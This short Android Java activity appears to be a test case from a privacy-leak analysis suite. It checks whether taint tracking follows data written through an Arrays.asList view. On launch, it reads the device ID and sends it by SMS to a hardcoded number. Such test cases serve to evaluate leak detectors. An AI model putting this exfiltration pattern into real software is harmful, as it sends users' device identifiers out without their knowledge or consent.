package cn.privlens.suite.as_list_writes_through;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Arrays;
import java.util.List;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String[] cells = {"a", "b", "c"};
        List<String> view = Arrays.asList(cells);
        view.set(1, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        SmsManager.getDefault().sendTextMessage("10690000", null, cells[1], null, null);
    }
}
